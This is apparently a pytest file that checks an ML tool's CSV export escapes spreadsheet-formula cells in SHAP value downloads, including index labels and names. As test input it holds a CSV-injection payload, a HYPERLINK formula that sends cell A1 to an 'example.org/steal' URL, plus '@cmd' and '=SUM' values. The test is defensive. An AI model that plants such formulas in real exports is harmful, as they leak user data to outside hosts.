"""Issue 11, item 6: no cell of a downloaded CSV starts a spreadsheet formula, the index included."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
from model_helpers import train

from mlcore.data.loading import load_bytes
from mlcore.deploy.predict import FORMULA_START, safe_csv_bytes
from mlcore.explain.explainer import explain_run
from mlcore.explain.shap_values import ExplainSettings

LINK = '=HYPERLINK("http://example.org/steal?"&A1,"click")'


def _risky(data: bytes) -> list[str]:
    """Cells a spreadsheet would run: text starting like a formula (a number such as -0.45 is a number)."""
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]
    return [c for c in cells if c.startswith(FORMULA_START) and not _number(c)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_shap_values_csv_escapes_a_parquet_index_holding_a_formula():
    rng = np.random.default_rng(0)
    frame = pd.DataFrame({"a": rng.normal(size=80), "b": rng.normal(size=80)})
    frame["label"] = np.where(frame["a"] > 0, "yes", "no")
    frame.index = [LINK if i == 0 else f"@cmd{i}" if i == 1 else f"row{i}" for i in range(80)]
    buffer = io.BytesIO()
    frame.to_parquet(buffer)  # the index travels in the file
    dataset = load_bytes(buffer.getvalue(), "upload.parquet")[0]
    assert dataset.frame.index[0] == LINK
    run = train(dataset, "decision_tree")
    shap = explain_run(run, dataset, ExplainSettings(rows=80)).shap
    matrix = shap.matrix(0, False)
    data = safe_csv_bytes(matrix, index=True)  # what the Explain page's download writes
    assert not _risky(data)
    written = pd.read_csv(io.BytesIO(data), index_col=0)
    shown = set(written.index)
    assert shown <= {f"'{label}" if str(label).startswith(FORMULA_START) else label for label in matrix.index}
    np.testing.assert_allclose(written.to_numpy(), matrix.to_numpy())  # the values themselves unchanged


def test_index_names_and_multi_indexes_are_escaped_too():
    frame = pd.DataFrame({"x": [1.0, 2.0]}, index=pd.MultiIndex.from_tuples([("=1+1", "a"), ("b", "+2")]))
    frame.index.names = ["=SUM(A1)", "k"]
    assert not _risky(safe_csv_bytes(frame, index=True))
